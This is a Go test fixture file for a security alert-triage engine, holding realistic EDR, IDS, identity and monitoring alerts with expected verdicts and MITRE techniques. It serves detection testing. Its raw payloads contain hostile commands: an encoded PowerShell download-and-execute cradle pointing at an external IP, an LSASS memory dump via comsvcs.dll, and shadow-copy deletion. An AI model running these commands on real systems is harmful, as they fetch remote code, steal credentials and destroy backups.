package builtin

import (
	"encoding/json"
	"time"
)

// Realistic alerts as Seliq's connectors normalise them: the vendor
// payload in Raw, the entities ingest extracted.

const encodedDownload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA4ADUALgAyADIAMAAuADEAMAAxAC4ANAA1AC8AYQAuAHAAcwAxACcAKQA="

var t0 = time.Date(2026, 3, 2, 9, 12, 0, 0, time.UTC)

type fixture struct {
	name           string
	alert          Alert
	ctx            Context
	wantVerdict    string
	wantTechniques []string
}

func raw(v any) json.RawMessage {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

func ent(typ, value string) Entity { return Entity{Type: typ, Value: value} }

func crowdStrikePowerShell() Alert {
	return Alert{
		ID: "a-cs-1", Source: "CrowdStrike Falcon", Severity: "high", Status: "new",
		Title:       "Execution via PowerShell with encoded command",
		Description: "WINWORD.EXE launched PowerShell with an encoded command line. Adversaries may use encoded commands to hide their activity.",
		Tags:        []string{"edr", "falcon"},
		Fingerprint: "cs:ind:powershell-encoded:fin-ws-042",
		FirstSeenAt: t0, LastSeenAt: t0, Occurrences: 1,
		Entities: []Entity{
			ent("hostname", "fin-ws-042"), ent("user", "jdoe"), ent("ipv4", "10.1.20.42"),
			ent("ipv4", "185.220.101.45"), ent("url", "http://185.220.101.45/a.ps1"),
			ent("sha256", "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c"),
		},
		Raw: raw(map[string]any{
			"metadata": map[string]any{"eventType": "DetectionSummaryEvent", "customerIDString": "c0ffee"},
			"event": map[string]any{
				"ComputerName": "FIN-WS-042", "UserName": "jdoe", "FileName": "powershell.exe",
				"CommandLine":                   "powershell.exe -nop -w hidden -enc " + encodedDownload,
				"ParentImageFileName":           `\Device\HarddiskVolume3\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
				"ParentCommandLine":             `"WINWORD.EXE" /n "C:\Users\jdoe\Downloads\Invoice_88213.docm"`,
				"SHA256String":                  "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
				"Tactic":                        "Execution",
				"Technique":                     "PowerShell",
				"Severity":                      4,
				"PatternDispositionDescription": "Detection, standard detection.",
			},
		}),
	}
}

func defenderMimikatz() Alert {
	return Alert{
		ID: "a-mde-1", Source: "Microsoft Defender for Endpoint", Severity: "high", Status: "new",
		Title:       "'Mimikatz' credential theft tool",
		Description: "The Mimikatz credential theft tool was detected on the device. An attacker might be using it to read credentials from LSASS process memory. The process memory was dumped with rundll32 and comsvcs.dll.",
		Fingerprint: "mde:mimikatz:srv-app-07",
		FirstSeenAt: t0.Add(4 * time.Minute), LastSeenAt: t0.Add(4 * time.Minute), Occurrences: 1,
		Entities: []Entity{
			ent("hostname", "srv-app-07.corp.contoso.com"), ent("user", "svc_sql"), ent("ipv4", "10.0.4.17"),
			ent("sha1", "d241df7b9d2ec0b8194751cd5ce153e27cc40fa4"),
		},
		Raw: raw(map[string]any{
			"alertId": "da638449111234567_-1234567", "category": "CredentialAccess",
			"detectionSource": "WindowsDefenderAv", "threatFamilyName": "Mimikatz",
			"determination": "Malware", "status": "New", "mitreTechniques": []string{"T1003.001"},
			"evidence": []map[string]any{{
				"entityType": "Process", "fileName": "rundll32.exe",
				"processCommandLine": `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Windows\Temp\lsass.dmp full`,
				"remediationStatus":  "Blocked",
			}},
		}),
	}
}

func sentinelOneRansomware() Alert {
	return Alert{
		ID: "a-s1-1", Source: "SentinelOne", Severity: "critical", Status: "new",
		Title:       "Ransomware: akira.exe",
		Description: "SentinelOne detected a malicious process that deleted volume shadow copies and began encrypting files on the file server.",
		Fingerprint: "s1:threat:akira:fs-02",
		FirstSeenAt: t0.Add(50 * time.Minute), LastSeenAt: t0.Add(52 * time.Minute), Occurrences: 3,
		Entities: []Entity{
			ent("hostname", "fs-02"), ent("user", "mkowalski"), ent("ipv4", "10.0.8.22"),
			ent("sha1", "3f2b6a7e5c1d4a8b9e0f1a2b3c4d5e6f7a8b9c0d"),
		},
		Raw: raw(map[string]any{
			"threatInfo": map[string]any{
				"threatName": "akira.exe", "classification": "Ransomware", "confidenceLevel": "malicious",
				"mitigationStatus": "mitigated", "sha1": "3f2b6a7e5c1d4a8b9e0f1a2b3c4d5e6f7a8b9c0d",
			},
			"indicators": []map[string]any{
				{"category": "Ransomware", "description": "Shadow copies deletion"},
				{"category": "Evasion", "commandLine": `vssadmin.exe delete shadows /all /quiet`},
			},
			"agentRealtimeInfo": map[string]any{"agentComputerName": "FS-02"},
		}),
	}
}

func suricataScan() Alert {
	return Alert{
		ID: "a-sur-1", Source: "Suricata", Severity: "medium", Status: "new",
		Title:       "ET SCAN NMAP -sS window 1024",
		Fingerprint: "suricata:2009582:10.20.30.40",
		FirstSeenAt: t0, LastSeenAt: t0.Add(6 * time.Minute), Occurrences: 38,
		Entities: []Entity{ent("ipv4", "10.20.30.40"), ent("ipv4", "10.20.1.15")},
		Raw: raw(map[string]any{
			"event_type": "alert", "src_ip": "10.20.30.40", "dest_ip": "10.20.1.15", "dest_port": 445, "proto": "TCP",
			"alert": map[string]any{"action": "allowed", "signature_id": 2009582, "signature": "ET SCAN NMAP -sS window 1024", "category": "Attempted Information Leak", "severity": 2},
		}),
	}
}

func wazuhBruteForce() Alert {
	return Alert{
		ID: "a-wz-1", Source: "Wazuh", Severity: "medium", Status: "new",
		Title:       "sshd: brute force trying to get access to the system. Non existent user.",
		Fingerprint: "wazuh:5712:bastion-01",
		FirstSeenAt: t0.Add(-3 * time.Hour), LastSeenAt: t0, Occurrences: 240,
		Entities: []Entity{ent("hostname", "bastion-01"), ent("ipv4", "45.155.205.233"), ent("user", "oracle")},
		Raw: raw(map[string]any{
			"rule": map[string]any{
				"id": "5712", "level": 10, "description": "sshd: brute force trying to get access to the system. Non existent user.",
				"groups": []string{"syslog", "sshd", "authentication_failures"},
				"mitre":  map[string]any{"id": []string{"T1110"}, "tactic": []string{"Credential Access"}, "technique": []string{"Brute Force"}},
			},
			"agent":    map[string]any{"name": "bastion-01", "ip": "10.0.0.10"},
			"data":     map[string]any{"srcip": "45.155.205.233", "srcuser": "oracle"},
			"full_log": "Mar  2 09:12:44 bastion-01 sshd[21877]: Invalid user oracle from 45.155.205.233 port 50122",
		}),
	}
}

func oktaMFAFatigue() Alert {
	return Alert{
		ID: "a-okta-1", Source: "Okta", Severity: "high", Status: "new",
		Title:       "MFA push fatigue suspected for alice@contoso.com",
		Description: "12 Okta Verify push notifications were rejected by the user within 10 minutes, followed by an accepted push from a new device in Lagos, Nigeria.",
		Fingerprint: "okta:mfa-fatigue:alice@contoso.com",
		FirstSeenAt: t0, LastSeenAt: t0.Add(10 * time.Minute), Occurrences: 12,
		Entities: []Entity{ent("user", "alice@contoso.com"), ent("ipv4", "102.89.34.12")},
		Raw: raw(map[string]any{
			"eventType": "user.mfa.okta_verify.deny_push", "displayMessage": "User rejected Okta push verify",
			"outcome": map[string]any{"result": "FAILURE", "reason": "INVALID_CREDENTIALS"},
			"client":  map[string]any{"ipAddress": "102.89.34.12", "geographicalContext": map[string]any{"city": "Lagos", "country": "Nigeria"}},
			"actor":   map[string]any{"alternateId": "alice@contoso.com", "type": "User"},
		}),
	}
}

func impossibleTravel() Alert {
	return Alert{
		ID: "a-mca-1", Source: "Microsoft Defender for Cloud Apps", Severity: "medium", Status: "new",
		Title:       "Impossible travel activity",
		Description: "The user bob@contoso.com signed in from Amsterdam, Netherlands and 14 minutes later from Singapore.",
		Fingerprint: "mcas:impossible-travel:bob@contoso.com",
		FirstSeenAt: t0, LastSeenAt: t0, Occurrences: 1,
		Entities: []Entity{ent("user", "bob@contoso.com"), ent("ipv4", "145.53.10.9"), ent("ipv4", "103.28.54.2")},
	}
}

func phishingAttachment() Alert {
	return Alert{
		ID: "a-mdo-1", Source: "Microsoft Defender for Office 365", Severity: "medium", Status: "new",
		Title:       "Email messages containing malicious file removed after delivery",
		Description: "Emails with a malicious attachment (Invoice_88213.docm) were delivered to 3 mailboxes and later removed by zero-hour auto purge.",
		Fingerprint: "mdo:zap-malware:docusign-notify.com",
		FirstSeenAt: t0.Add(-20 * time.Minute), LastSeenAt: t0.Add(-20 * time.Minute), Occurrences: 1,
		Entities: []Entity{
			ent("email", "billing@docusign-notify.com"), ent("domain", "docusign-notify.com"),
			ent("user", "alice@contoso.com"), ent("email", "alice@contoso.com"),
			ent("sha256", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
		},
		Raw: raw(map[string]any{
			"threatTypes": []string{"Malware"}, "deliveryAction": "Delivered", "latestDeliveryLocation": "Quarantine",
			"detectionMethods": []string{"File detonation"}, "subject": "Invoice 88213 overdue",
			"attachments":           []map[string]any{{"fileName": "Invoice_88213.docm", "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}},
			"senderFromAddress":     "billing@docusign-notify.com",
			"recipientEmailAddress": "alice@contoso.com",
		}),
	}
}

func alertmanagerNodeDown() Alert {
	return Alert{
		ID: "a-am-1", Source: "Alertmanager", Severity: "critical", Status: "new",
		Title:       "NodeDown",
		Description: "Node exporter on db-03:9100 has been unreachable for more than 5 minutes.",
		Fingerprint: "am:NodeDown:db-03:9100",
		FirstSeenAt: t0, LastSeenAt: t0.Add(15 * time.Minute), Occurrences: 4,
		Entities: []Entity{ent("hostname", "db-03"), ent("ipv4", "10.0.3.33")},
		Raw: raw(map[string]any{
			"status":      "firing",
			"labels":      map[string]any{"alertname": "NodeDown", "instance": "db-03:9100", "job": "node", "severity": "critical"},
			"annotations": map[string]any{"summary": "Node db-03 is down"},
		}),
	}
}

func scheduledTaskFP() Alert {
	return Alert{
		ID: "a-mde-2", Source: "Microsoft Defender for Endpoint", Severity: "medium", Status: "new",
		Title:       "Suspicious scheduled task created",
		Description: `schtasks.exe /create /tn "VeeamBackupUpdate" /tr "C:\Program Files\Veeam\Backup\update.exe" /sc daily /st 02:00`,
		Fingerprint: "mde:schtask:veeambackupupdate",
		FirstSeenAt: t0, LastSeenAt: t0, Occurrences: 1,
		Entities: []Entity{ent("hostname", "backup-01"), ent("user", "svc_veeam")},
	}
}

func fixtures() []fixture {
	return []fixture{
		// A decision rule fired: its techniques, not keyword guesses.
		{"crowdstrike encoded powershell", crowdStrikePowerShell(), Context{}, VerdictLikelyMalicious, []string{"T1105", "T1059.001", "T1027"}},
		{"defender mimikatz lsass", defenderMimikatz(), Context{}, VerdictLikelyMalicious, []string{"T1003.001"}},
		{"sentinelone ransomware", sentinelOneRansomware(), Context{}, VerdictLikelyMalicious, []string{"T1486", "T1490"}},
		// An internal host that is not a known scanner scanning: recon, no conflict.
		{"suricata internal port scan", suricataScan(), Context{}, VerdictSuspicious, []string{"T1046"}},
		{"wazuh ssh brute force", wazuhBruteForce(), Context{}, VerdictSuspicious, []string{"T1110"}},
		{"okta mfa fatigue", oktaMFAFatigue(), Context{}, VerdictLikelyMalicious, []string{"T1621"}},
		// Both addresses are outside the organisation: an expert calls it.
		{"impossible travel", impossibleTravel(), Context{}, VerdictLikelyMalicious, []string{"T1078.004"}},
		{"phishing attachment", phishingAttachment(), Context{}, VerdictLikelyMalicious, []string{"T1566.001"}},
		{"alertmanager node down", alertmanagerNodeDown(), Context{}, VerdictLikelyBenign, nil},
		{"scheduled task with FP history", scheduledTaskFP(), Context{
			History: DispositionHistory{FalsePositive: 47, TruePositive: 3},
			Related: []Related{{ID: "a-old-9", Title: "Suspicious scheduled task created", Kind: "alert", Reason: "same fingerprint"}},
		}, VerdictLikelyBenign, nil}, // benign activity records no attack technique
	}
}
